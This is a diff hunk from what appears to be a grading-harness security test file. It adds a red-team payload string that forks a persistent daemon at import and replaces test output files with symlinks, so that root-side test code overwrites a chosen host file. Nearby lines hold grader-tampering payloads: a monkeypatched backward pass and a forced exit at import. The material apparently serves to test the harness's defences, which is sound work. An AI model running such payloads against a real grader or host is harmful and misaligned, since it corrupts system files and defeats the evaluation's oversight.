@@ -90,3 +90,42 @@ def _loop(self, *a, **k):
 ReLULayer.backward = _loop
 '''
 EXIT_AT_IMPORT = "\nimport os\nos._exit(3)\n"
+
+# A daemon forked in the worker at import (it lives for the whole grading) plants links in
+# every test folder it can write to: at each name a root-side test writes or reads there
+# (the in-process exp 3.1 driver's pool5.npy, a driver's checkpoint the test copies). The
+# red-team's rootwrite.sh / ckleak2.sh; {VICTIM} is a host file root must never write.
+PLANT_LINKS_DAEMON = '''
+def _rt_daemon():
+    import os, time
+    t = os.path.join(os.path.dirname(os.getcwd()), "tmp", "t")
+    end = time.time() + 600
+    while time.time() < end:
+        for top, dirs, files in os.walk(t):
+            for n in files + ["pool5.npy"]:
+                if n.endswith((".npy", ".npz", ".csv")):
+                    p = os.path.join(top, n)
+                    try:
+                        if not (os.path.islink(p) and os.readlink(p) == "{VICTIM}"):
+                            os.symlink("{VICTIM}", p + ".x")
+                            os.rename(p + ".x", p)
+                    except OSError:
+                        try:
+                            os.unlink(p + ".x")
+                        except OSError:
+                            pass
+        time.sleep(0.002)
+
+
+def _rt_start():
+    import os, sys
+    if sys.argv and sys.argv[0].endswith("worker.py") and os.fork() == 0:
+        os.setsid()
+        try:
+            _rt_daemon()
+        finally:
+            os._exit(0)
+
+
+_rt_start()
+'''
